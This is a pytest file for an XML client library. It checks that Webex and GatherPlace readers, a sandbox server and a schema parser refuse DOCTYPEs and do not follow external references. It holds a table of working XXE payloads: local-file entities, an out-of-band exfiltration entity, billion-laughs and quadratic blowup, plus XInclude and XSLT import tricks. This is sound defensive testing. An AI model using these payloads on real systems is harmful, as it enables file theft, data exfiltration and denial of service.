"""XXE: no document makes any reader open a file, call an address, or grow without bound."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import requests

from codegen.source import parse_xsd
from meetwire import gatherplace, webex
from meetwire.gatherplace import GatherPlace, PortletToken, feed_items, portlet
from meetwire.runtime.errors import ForbiddenXML, InvalidRequest, MeetwireError, WireError
from meetwire.runtime.transport import HttpReply, MemoryTransport
from meetwire.runtime.xml import parse
from meetwire.testing import Sandbox
from meetwire.webex import Password, Webex, user
from tests.runtime.faulty import Faulty, FaultyServer, answer, answering

CANARY = "canary-5e1f"
SERV = "http://www.webex.com/schemas/2002/06/service"
XSI = "http://www.w3.org/2001/XMLSchema-instance"


@dataclass(frozen=True)
class Prey:
    """What an attack is after."""

    file: str
    """The URL of a file that holds the canary."""
    url: str
    """An address that nobody has any business at."""
    server: FaultyServer


@pytest.fixture
def prey(tmp_path: Path, faulty: Faulty) -> Iterator[Prey]:
    secret = tmp_path / "secret.txt"
    secret.write_text(CANARY)
    server = faulty(answering(answer(f'<!ENTITY seen "{CANARY}">'.encode())))
    yield Prey(secret.as_uri(), server.url, server)
    assert server.accepted == 0


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    with Sandbox() as running:
        yield running


# The documents ------------------------------------------------------------------------------------

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BLOWUP = f'<!ENTITY b "{"b" * 50_000}">'
ENTITIES: dict[str, tuple[str, str]] = {
    "a file": ('<!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]>', "&e;"),
    "an address": ('<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]>', "&e;"),
    "a public one": ('<!DOCTYPE x [<!ENTITY e PUBLIC "-//X//Y" "{url}">]>', "&e;"),
    "a parameter entity": ('<!DOCTYPE x [<!ENTITY % p SYSTEM "{url}"> %p;]>', "&seen;"),
    "a parameter entity with a file": ('<!DOCTYPE x [<!ENTITY % p SYSTEM "{file}"> %p;]>', "x"),
    "an exfiltrating one": (
        '<!DOCTYPE x [<!ENTITY % f SYSTEM "{file}">'
        "<!ENTITY % all \"<!ENTITY send SYSTEM '{url}?%f;'>\"> %all;]>",
        "&send;",
    ),
    "an external DTD": ('<!DOCTYPE x SYSTEM "{url}">', "&seen;"),
    "a public DTD": ('<!DOCTYPE x PUBLIC "-//X//Y" "{url}">', "x"),
    "an external DTD from a file": ('<!DOCTYPE x SYSTEM "{file}">', "x"),
    "an unparsed entity": (
        '<!DOCTYPE x [<!NOTATION n SYSTEM "{url}"><!ENTITY e SYSTEM "{file}" NDATA n>]>',
        "x",
    ),
    "a default attribute": ('<!DOCTYPE x [<!ATTLIST x a CDATA "' + CANARY + '">]>', "x"),
    "an inner entity": ('<!DOCTYPE x [<!ENTITY e "' + CANARY + '">]>', "&e;"),
    "a billion laughs": (f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>', "&l9;"),
    "quadratic blowup": (f"<!DOCTYPE x [{BLOWUP}]>", "&b;" * 50_000),
    "itself": ('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
    "nothing at all": ("<!DOCTYPE x>", "x"),
}
ENCODINGS = ["utf-8", "utf-16", "utf-16-be", "utf-16-le", "utf-32", "utf-7", "cp037", "iso-8859-1"]
FRAMES: dict[str, str] = {
    "an answer": f"""<serv:message xmlns:serv="{SERV}" xmlns:xsi="{XSI}"><serv:header>
        <serv:response><serv:result>SUCCESS</serv:result></serv:response></serv:header><serv:body>
        <serv:bodyContent xsi:type="use:getUserResponse"
          xmlns:use="{SERV}/user"><use:webExId>@</use:webExId><use:other>@</use:other>
        </serv:bodyContent></serv:body></serv:message>""",
    "a request": f"""<serv:message xmlns:serv="{SERV}" xmlns:xsi="{XSI}"><header><securityContext>
        <webExID>host@acme.example</webExID><password>host-secret</password>
        <siteName>acme</siteName></securityContext></header><body>
        <bodyContent xsi:type="java:com.webex.service.binding.user.GetUser">
        <webExId>@</webExId></bodyContent></body></serv:message>""",
    "an answer of GatherPlace": """<gatherworks><command>portlet.getMySessions</command><r>
        <n>@</n></r></gatherworks>""",
    "a feed": """<rss version="2.0"><channel><item><title>@</title><link>@</link></item></channel>
        </rss>""",
}


def document(frame: str, name: str, prey: Prey, encoding: str = "utf-8") -> bytes:
    doctype, content = ENTITIES[name]
    doctype = doctype.replace("{file}", prey.file).replace("{url}", prey.url)
    declared = (
        f'<?xml version="1.0" encoding="{encoding.removesuffix("-le").removesuffix("-be")}"?>'
    )
    return (declared + doctype + FRAMES[frame].replace("@", content)).encode(encoding)


each_entity = pytest.mark.parametrize("name", list(ENTITIES))
Read = Callable[[bytes], object]


def send(data: bytes) -> object:
    transport = MemoryTransport(lambda _: HttpReply(200, {}, data))
    with Webex("acme", Password("ann", "x"), transport=transport) as site:
        return site.send(user.GetUser(webex_id="ann"))


def call(data: bytes) -> object:
    transport = MemoryTransport(lambda _: HttpReply(200, {}, data))
    with Webex("acme", Password("ann", "x"), transport=transport) as site:
        return site.call("user.GetUser").response


def sessions(data: bytes, *, rss: bool = False) -> object:
    transport = MemoryTransport(lambda _: HttpReply(200, {}, data))
    with GatherPlace(PortletToken("x"), transport=transport) as account:
        return account.send(portlet.GetMySessions(rss=rss or None))


READERS: dict[str, tuple[str, Read]] = {
    "parse": ("an answer", parse),
    "Webex.send": ("an answer", send),
    "Webex.call": ("an answer", call),
    "webex.loads, an answer": ("an answer", webex.loads),
    "webex.loads, a request": ("a request", webex.loads),
    "GatherPlace.send": ("an answer of GatherPlace", sessions),
    "GatherPlace.send for a feed": ("a feed", lambda data: sessions(data, rss=True)),
    "gatherplace.loads": ("an answer of GatherPlace", gatherplace.loads),
}
each_reader = pytest.mark.parametrize("reader", list(READERS))


# What readers do ----------------------------------------------------------------------------------


@each_reader
def test_each_reader_reads_its_document_without_a_doctype(reader: str) -> None:
    frame, read = READERS[reader]
    read(FRAMES[frame].replace("@", "fine").encode())


@each_reader
@each_entity
def test_a_doctype_is_refused_by_whoever_reads(reader: str, name: str, prey: Prey) -> None:
    frame, read = READERS[reader]
    with pytest.raises(ForbiddenXML) as caught:
        read(document(frame, name, prey))
    assert CANARY not in str(caught.value)


@pytest.mark.parametrize("encoding", ENCODINGS)
@each_entity
def test_no_encoding_hides_a_doctype(name: str, encoding: str, prey: Prey) -> None:
    with pytest.raises(WireError) as caught:
        send(document("an answer", name, prey, encoding))
    assert CANARY not in str(caught.value)


@each_entity
def test_text_that_is_read_is_no_way_around(name: str, prey: Prey) -> None:
    with pytest.raises(ForbiddenXML):
        webex.loads(document("an answer", name, prey).decode())


@each_entity
def test_the_xml_of_an_untyped_call_has_no_doctype(name: str, prey: Prey) -> None:
    transport = MemoryTransport(lambda _: HttpReply(200, {}, b""))
    doctype, content = ENTITIES[name]
    doctype = doctype.replace("{file}", prey.file).replace("{url}", prey.url)
    with Webex("acme", Password("ann", "x"), transport=transport) as site:
        for xml in (f"{doctype}<a>{content}</a>", f"</bodyContent>{doctype}<bodyContent>"):
            with pytest.raises(InvalidRequest):
                site.call("user.GetUser", xml)
    assert not transport.requests


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-7", "cp037"])
@each_entity
def test_a_sandbox_refuses_a_doctype(
    name: str, encoding: str, prey: Prey, sandbox: Sandbox
) -> None:
    data = document("a request", name, prey, encoding)
    for body in (data, b"XML=" + data):
        reply = requests.post(sandbox.url, body, timeout=10)
        assert reply.status_code == 200
        assert "FAILURE" in reply.text
        assert CANARY not in reply.text


@each_entity
def test_the_page_of_a_sandbox_shows_a_doctype_as_it_is(
    name: str, prey: Prey, sandbox: Sandbox
) -> None:
    form = {"xml": document("a request", name, prey).decode()[:100_000]}
    reply = requests.post(
        sandbox.page, form, headers={"Origin": sandbox.page.rstrip("/")}, timeout=10
    )
    assert reply.status_code == 200
    assert "FAILURE" in reply.text


@each_entity
def test_a_schema_is_parsed_without_looking_elsewhere(
    name: str, prey: Prey, tmp_path: Path
) -> None:
    path = tmp_path / "hostile.xsd"
    path.write_bytes(document("a feed", name, prey))
    try:
        root = parse_xsd(path).getroot()
    except SyntaxError:  # what lxml makes of what would grow without bound
        return
    assert CANARY not in "".join(str(text) for text in root.itertext() if text)


# What looks like an attack and is text ------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>',
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}"/>',
        '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="u {url}"/>',
        '<a xsi:noNamespaceSchemaLocation="{url}"/>',
        '<?xml-stylesheet type="text/xsl" href="{url}"?>',
        '<xsl:import xmlns:xsl="http://www.w3.org/1999/XSL/Transform" href="{file}"/>',
        '<a xml:base="{url}" href="{file}"/>',
        '<![CDATA[<!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]>&e;]]>',
        "<![CDATA[]]]]><![CDATA[><![CDATA[ ]]>",
    ],
)
def test_what_other_tools_would_follow_is_kept_and_not_followed(content: str, prey: Prey) -> None:
    content = content.replace("{file}", prey.file).replace("{url}", prey.url)
    for frame in ("an answer", "a feed"):
        data = FRAMES[frame].replace("@", content).encode()
        message = send(data) if frame == "an answer" else sessions(data, rss=True)
        assert CANARY not in repr(message)
        assert CANARY not in str(getattr(message, "extras", ""))
    assert feed_items(message)  # type: ignore[arg-type]


def test_a_stylesheet_in_front_of_an_answer_is_not_followed(prey: Prey) -> None:
    data = f'<?xml-stylesheet href="{prey.url}"?>' + FRAMES["an answer"].replace("@", "ann")
    assert isinstance(send(data.encode()), user.GetUserResponse)


def test_damage_next_to_an_entity_is_no_way_around(prey: Prey) -> None:
    for name in ENTITIES:
        whole = document("an answer", name, prey)
        for end in range(60, len(whole), max(len(whole) // 20, 1)):
            with pytest.raises(MeetwireError):
                send(whole[:end])
